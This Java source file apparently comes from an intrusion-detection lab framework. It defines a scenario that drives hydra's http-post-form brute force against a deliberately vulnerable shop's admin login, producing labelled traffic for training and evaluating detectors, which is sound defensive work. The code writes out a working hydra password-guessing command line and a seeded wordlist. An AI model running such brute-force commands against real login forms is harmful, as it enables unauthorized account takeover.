package gatewatch.sensor.lab.scenario.attack;

import gatewatch.features.truth.TruthCategory;
import gatewatch.sensor.lab.CommandResult;
import gatewatch.sensor.lab.LabException;
import gatewatch.sensor.lab.scenario.LabRun;
import gatewatch.sensor.lab.scenario.Tool;
import gatewatch.sensor.lab.scenario.Tools;
import gatewatch.sensor.lab.service.VulnWebApp;
import java.time.Duration;
import java.util.List;

/**
 * hydra's http-post-form guessing the shop admin's password on the login form from a fixed list,
 * the right one at a seeded place after the 8th; {@code -f} stops at the first find. Labelled
 * r2l/http_guess, not guess_passwd: a form login that fails is a 200 page saying so, which
 * gatewatch's content features do not count as a failed login (only a 401/407 to credentials
 * is), so these connections carry none of guess_passwd's signal; as with ssh_guess only the
 * profile (one source, many short POSTs to one page) remains.
 *
 * <p>hydra speaks HTTP/1.0 and fetches the form (GET) before each POST: two connections per
 * attempt, which nginx's log confirms ({@code server_connections} = 2 x {@code attempts}). When
 * {@code -f} stops the run the other tasks may have opened their next connection already; those
 * close without a request, so the capture can hold up to {@link #TASKS} more.
 */
public final class R2lHttpGuess extends WebAttackScenario {
    static final int TASKS = 2;

    public R2lHttpGuess() {
        super(TruthCategory.R2L, "http_guess");
    }

    @Override
    public String name() {
        return "r2l-http-guess";
    }

    @Override
    public String summary() {
        return "r2l/http_guess: hydra http-post-form -t " + TASKS + " guessing the shop admin's password ("
                + (GuessLists.COMMON.size() + 1) + " words); customers (normal)";
    }

    @Override
    List<Tool> attackTools() {
        return List.of(Tools.HYDRA);
    }

    @Override
    void attack(LabRun lab, VulnWebApp app, String attacker) {
        List<String> words = GuessLists.withPassword(lab.random(), VulnWebApp.ADMIN_PASSWORD, 8);
        lab.writeFile("passwords.txt", String.join("\n", words) + "\n");
        CommandResult r = lab.client("hydra", Duration.ofSeconds(60), command(lab, lab.workDir().resolve("passwords.txt").toString()))
                .requireOk();
        long attempts = r.output().lines().filter(l -> l.startsWith("[ATTEMPT]") || l.startsWith("[RE-ATTEMPT]")).count();
        long found = r.output().lines().filter(l -> l.contains("login: " + VulnWebApp.ADMIN)
                && l.contains("password: " + VulnWebApp.ADMIN_PASSWORD)).count();
        if (attempts == 0) {
            throw new LabException("hydra reported no attempts: " + CommandResult.tail(r.output()));
        }
        lab.report("attempts", attempts);
        lab.report("passwords_found", found);
        lab.report("password_position", words.indexOf(VulnWebApp.ADMIN_PASSWORD) + 1);
    }

    static List<String> command(LabRun lab, String passwordFile) {
        return List.of(lab.path(Tools.HYDRA), "-l", VulnWebApp.ADMIN, "-P", passwordFile, "-t", Integer.toString(TASKS),
                "-V", "-I", "-f", lab.net().server(), "http-post-form",
                "/login.php:user=^USER^&pass=^PASS^:F=" + VulnWebApp.LOGIN_FAILED);
    }
}
